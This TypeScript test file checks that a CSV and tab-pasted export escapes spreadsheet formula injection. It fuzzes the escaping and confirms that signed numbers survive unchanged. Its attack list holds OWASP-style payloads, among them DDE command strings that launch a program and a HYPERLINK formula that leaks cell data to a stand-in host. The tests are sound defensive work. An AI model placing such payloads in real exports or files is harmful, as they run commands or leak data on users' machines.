import fc from "fast-check";
import {csvParseRows, dsvFormat} from "d3";
import {expect, it} from "vitest";
import {csvField as ownField} from "../../loaders/report/csvField.js";
import {csv, csvField, tabbed} from "../../src/components/csv.js";

// From OWASP's page on CSV injection, and what has been seen in the wild.
const attacks = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
  "＠SUM(A1)",
  '=HYPERLINK("https://example.com?leak="&A1)',
  "x;=1+1",
  'x";=1+1',
  "x; @SUM(A1)",
  "x\n=1+1",
  "x\t=1+1",
  'a,"b";"=1+1"'
];

/** What a spreadsheet would run: a cell that begins so and is no number. */
const runs = (cell: string) => /^\s*[=+\-@＝＋－＠]/u.test(cell) && !/^\s*-?[\d.,]+(e[+-]?\d+)?%?\s*$/iu.test(cell);

it.each(attacks)("%j is text in every cell, whatever the spreadsheet separates by", (attack) => {
  const text = csv({
    columns: [{label: "a"}, {label: attack}],
    rows: [
      [attack, 1],
      ["b", attack]
    ]
  });
  for (const separator of [",", ";", "\t", "|"])
    expect(dsvFormat(separator).parseRows(text).flat().filter(runs), separator).toEqual([]);
});

it("an attack would be found by this test where it is not made harmless", () => {
  const plain = attacks.map((attack) => `"${attack.replaceAll('"', '""')}"`).join("\r\n");
  expect(csvParseRows(plain).flat().filter(runs).length).toBeGreaterThan(10);
});

it("no text makes a cell that runs, and every text is read back but for the marks", () => {
  const bits = fc.constantFrom("=", "+", "-", "@", ";", ",", "\t", "\r", "\n", '"', "'", " ", "|", "a", "1", "é");
  fc.assert(
    fc.property(fc.array(bits, {maxLength: 12}), (parts) => {
      const text = parts.join("");
      const written = csvField(text);
      const [[read = ""] = []] = csvParseRows(`${written},x`);
      expect(read.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
      for (const separator of [",", ";", "\t", "|"])
        expect(dsvFormat(separator).parseRows(written).flat().filter(runs)).toEqual([]);
      expect(ownField(text)).toBe(written);
    }),
    {numRuns: 3000}
  );
});

it.each([
  [-0.5, "-0.5"],
  [-1234567, "-1234567"],
  [1e-7, "1e-7"],
  [null, ""],
  ["-12.50", "-12.50"],
  ["-3", "-3"],
  ["−1,234", '"−1,234"'],
  ["-5%", "-5%"],
  ["2026-10", "2026-10"],
  ["Team – annual", "Team – annual"]
])("%j is written %s", (value, text) => {
  expect(csvField(value)).toBe(text);
  expect(ownField(value)).toBe(text);
});

it("a pasted table holds no formula, and signed numbers as they are shown", () => {
  const pasted = (text: string) => tabbed({columns: [{label: "a"}], rows: [[text]]}).split("\n")[1]!;
  expect(attacks.map(pasted).filter(runs)).toEqual([]);
  expect(pasted('-2+HYPERLINK("https://example.com")')).toMatch(/^'/);
  for (const text of ["+1.8 pp (0.7 to 2.9)", "-3", "−4.2%"]) expect(pasted(text)).toBe(text);
});
